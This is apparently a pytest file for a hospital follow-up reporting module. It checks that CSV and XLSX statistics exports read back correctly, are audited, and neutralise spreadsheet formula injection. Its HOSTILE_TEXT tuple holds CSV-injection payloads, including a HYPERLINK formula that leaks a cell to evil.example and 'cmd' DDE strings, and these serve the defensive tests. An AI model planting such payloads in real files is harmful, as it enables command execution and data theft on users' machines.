"""CSV and XLSX exports read back, each one written to the audit log (and the outbox)."""

from __future__ import annotations

import csv
import datetime as dt
import gc
import sys
import warnings
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select

from agent_app.reports.errors import ExportError
from agent_app.reports.export import (
    FORMULA_STARTERS,
    export_csv,
    export_xlsx,
    write_csv,
    write_xlsx,
)
from agent_app.reports.filters import month_filter
from agent_app.reports.followup_records import Grouping
from agent_app.reports.followup_stats import agent_workload, followup_rates
from agent_app.reports.tables import Table, followup_rate_table, workload_table
from agent_app.store.repositories.audit import audit_entries
from agent_app.store.schema import Outbox
from tests.reports.tiny_hospital import QUALITY, TinyHospital

OCTOBER = month_filter(2026, 10)


def test_xlsx_export_reads_back_with_openpyxl_and_is_audited(
    store_engine: Engine, tiny: TinyHospital, tmp_path: Path
) -> None:
    rates = followup_rate_table(followup_rates(store_engine, OCTOBER, Grouping.DEPARTMENT))
    work = workload_table(agent_workload(store_engine, OCTOBER))
    path = tmp_path / "stats.xlsx"
    assert export_xlsx(store_engine, QUALITY, [rates, work], path) == 4
    book = load_workbook(path)
    assert book.sheetnames == ["随访率", "随访人员工作量"]
    rows = list(book["随访率"].iter_rows(values_only=True))
    assert rows[0][:3] == ("名称", "应随访", "已完成")
    assert rows[1][:4] == ("心内科", 3, 2, 66.7)
    assert list(book["随访人员工作量"].iter_rows(values_only=True))[1][:4] == (
        "护士甲", "心内科", 6, 2,
    )  # fmt: skip
    (entry,) = audit_entries(store_engine, staff_id=QUALITY)
    assert (entry.action, entry.object_type) == ("export", "table")
    assert entry.detail["format"] == "xlsx" and entry.detail["rows"] == 4


def test_csv_export_keeps_chinese_for_excel_and_is_audited(
    store_engine: Engine, tiny: TinyHospital, tmp_path: Path
) -> None:
    table = followup_rate_table(followup_rates(store_engine, OCTOBER, Grouping.HOSPITAL))
    path = tmp_path / "rate.csv"
    export_csv(store_engine, QUALITY, table, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [list(table.columns), ["全院", "5", "3", "60.0", "2", "40.0", "3", "60.0"]]
    (entry,) = audit_entries(store_engine, object_type="table")
    assert entry.detail["format"] == "csv"
    if store_engine.dialect.name == "sqlite":
        with store_engine.connect() as connection:
            queued = connection.execute(
                select(func.count()).where(Outbox.table_name == "audit_log")
            ).scalar_one()
        assert queued == 1


def test_an_unwritable_export_says_so_and_is_not_audited(
    store_engine: Engine, tiny: TinyHospital, tmp_path: Path
) -> None:
    table = followup_rate_table(followup_rates(store_engine, OCTOBER, Grouping.HOSPITAL))
    with pytest.raises(ExportError, match="Could not write"):
        export_csv(store_engine, QUALITY, table, tmp_path / "missing" / "rate.csv")
    assert audit_entries(store_engine) == []


def test_an_xlsx_export_to_a_full_disk_says_so_and_leaves_no_file_open(
    store_engine: Engine, tiny: TinyHospital, monkeypatch: pytest.MonkeyPatch
) -> None:
    table = followup_rate_table(followup_rates(store_engine, OCTOBER, Grouping.HOSPITAL))
    leftovers: list[str] = []  # a zip file left open fails again when the collector closes it
    monkeypatch.setattr(sys, "unraisablehook", lambda u: leftovers.append(repr(u.object)))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always", ResourceWarning)
        with pytest.raises(ExportError, match="No space left on device"):
            export_xlsx(store_engine, QUALITY, [table], Path("/dev/full"))
        gc.collect()
    assert leftovers == []
    assert [str(w.message) for w in caught if w.category is ResourceWarning] == []
    assert audit_entries(store_engine) == []


# What a patient or an agent can type into a name, an answer or a complaint, and what a
# spreadsheet would run as a formula if the file held it raw (OWASP "CSV injection").
HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
INJECTION_TABLE = Table(
    "导出",
    ("=姓名", "回答", "分数", "差值", "日期"),
    (
        *((f"张三{i}", text, 7, -3.5, dt.date(2026, 10, 1)) for i, text in enumerate(HOSTILE_TEXT)),
        ("李四", "-", -12, 0.0, None),
    ),
    "injection",
)


def test_csv_export_prefixes_formula_text_with_a_quote_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "injection.csv"
    write_csv(INJECTION_TABLE, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header[0] == "'=姓名"
    assert [row[1] for row in rows] == ["'" + text for text in HOSTILE_TEXT] + ["'-"]
    assert [row[0] for row in rows][:2] == ["张三0", "张三1"]  # plain text is untouched
    assert {(row[2], row[3]) for row in rows[:-1]} == {("7", "-3.5")}
    assert rows[-1][2:] == ["-12", "0.0", ""]  # a negative number stays a bare number


def test_xlsx_export_stores_formula_text_as_quoted_text_and_numbers_as_numbers(
    tmp_path: Path,
) -> None:
    path = tmp_path / "injection.xlsx"
    write_xlsx([INJECTION_TABLE], path)
    sheet = load_workbook(path)["导出"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(not t.startswith(FORMULA_STARTERS) for t in texts)
    assert sheet["A1"].value == "'=姓名"
    answers = [sheet.cell(r, 2).value for r in range(2, sheet.max_row + 1)]
    # XML reads a carriage return back as a line feed; the quote in front is what matters
    expected = ["'" + text.replace("\r", "\n") for text in HOSTILE_TEXT] + ["'-"]
    assert answers == expected
    assert [c.data_type for c in sheet["B"][1:]] == ["s"] * len(answers)
    last = sheet.max_row
    assert (sheet.cell(last, 3).value, sheet.cell(last, 3).data_type) == (-12, "n")
    assert (sheet.cell(2, 4).value, sheet.cell(2, 4).data_type) == (-3.5, "n")
    assert sheet.cell(2, 5).value == dt.datetime(2026, 10, 1)


def test_text_that_looks_like_an_excel_error_stays_text_in_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "errors.xlsx"
    write_xlsx([Table("t", ("回答",), (("#N/A",), ("#DIV/0!",)), "t")], path)
    sheet = load_workbook(path)["t"]
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("#N/A", "s"), ("#DIV/0!", "s")]
